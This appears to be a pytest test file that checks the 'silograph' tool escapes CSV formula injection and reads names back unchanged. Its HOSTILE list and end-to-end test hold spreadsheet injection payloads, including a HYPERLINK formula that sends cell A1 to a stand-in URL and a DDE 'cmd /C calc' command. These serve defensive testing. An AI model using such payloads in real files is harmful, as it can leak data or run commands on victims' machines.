"""Tables for spreadsheets: no name in them is computed as a formula, and silograph reads the same names again."""

import csv
import io
import random

import pytest

from silograph.core.spreadsheet import as_named, csv_of
from silograph.finished import open_run
from silograph.report.read import read_table

FORMULAS = ("=", "+", "-", "@", "\t", "\r")
#: Names of strangers, by what a spreadsheet would do with them.
HOSTILE = ('=HYPERLINK("http://x?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "a;=1+1", "'=1", "''=1", "-x")
PLAIN = ("age", "IL-6", "CD4+", "a=b", "'tis", "x'=y", "a;b", "-", "+", "-1.5", "1e-9", "nan", "-inf", "")


def cells(text: bytes, separator: str = ",") -> list[str]:
    """What a spreadsheet takes for a cell, where cells are separated so."""
    return [cell for row in csv.reader(io.StringIO(text.decode(), newline=""), delimiter=separator) for cell in row]


@pytest.mark.parametrize("separator", [",", ";"])
@pytest.mark.parametrize("name", HOSTILE)
def test_no_cell_of_a_name_begins_a_formula(name, separator):
    # By semicolons the rest of a cell is the beginning of another.
    written = csv_of(("name", "n"), [(name, -1.5)])
    numbers = ("-1.5", "+1", "-2")
    assert not [cell for cell in cells(written, separator) if cell.startswith(FORMULAS) and cell not in numbers]
    assert f"'{name}" in cells(written) or ";'=" in written.decode()


def test_names_and_numbers_that_are_no_formula_stay_as_they_are():
    assert cells(csv_of(PLAIN, [PLAIN])) == [*PLAIN, *PLAIN]
    assert cells(csv_of(("a", "b"), [(-0.5, -3), ("-0.5", "+2e-07")]))[2:] == ["-0.5", "-3", "-0.5", "+2e-07"]


def test_any_name_is_read_back_as_it_was(tmp_path):
    draw = random.Random(1)
    names = [
        *HOSTILE,
        *PLAIN,
        *("".join(draw.choices("=+-@'\t\r\n;,\"1a ", k=draw.randint(0, 6))) for _ in range(20_000)),
    ]
    path = tmp_path / "names.csv"
    path.write_bytes(csv_of(("n", "=m"), [(name, name) for name in names]))
    assert [row for _, row in read_table(path, ("n", "=m"))] == [[name, name] for name in names]
    assert [as_named(cell) for cell in cells(path.read_bytes())[2::2]] == names


def test_a_run_whose_columns_and_sites_have_names_of_formulas(tmp_path, silograph):
    """Its files are safe; its report, its scale and its edges are read by other commands under the true names."""
    assert silograph("sample", tmp_path / "d", "--seed", "1")[0] == 0
    tables = sorted((tmp_path / "d").glob("*.csv"))
    strange = ['=HYPERLINK("http://x")', "-x", "@a\r=b", "'=y"]
    for path in tables:
        rows = list(csv.reader(path.open(newline="")))
        rows[0][:4] = strange
        csv.writer(path.with_name(f"={path.name}").open("w", newline="")).writerows(rows)
    sites = sorted((tmp_path / "d").glob("=*.csv"))
    out = tmp_path / "out"
    assert silograph("learn", *sites, "-o", out, "--epsilon", "50", "--delta", "1e-6", "--seed", "1")[0] == 0
    for path in [*out.rglob("*.csv")]:
        rows = list(csv.reader(path.open(newline="")))
        assert not [row[0] for row in rows if row[0].startswith(FORMULAS)]
    written = {'\'=HYPERLINK("http://x")', "'-x", "'@a\r'=b", "''=y"}
    assert written < {row[0] for row in csv.reader((out / "scale.csv").open(newline=""))}
    graph = open_run(out).graph()
    assert set(strange) < set(graph.nodes)
    again = ("learn", *sites, "-o", tmp_path / "again", "--scale", out / "scale.csv", "--learner", "papers")
    assert silograph(*again, "--candidates", out / "consensus.csv")[0] == 0
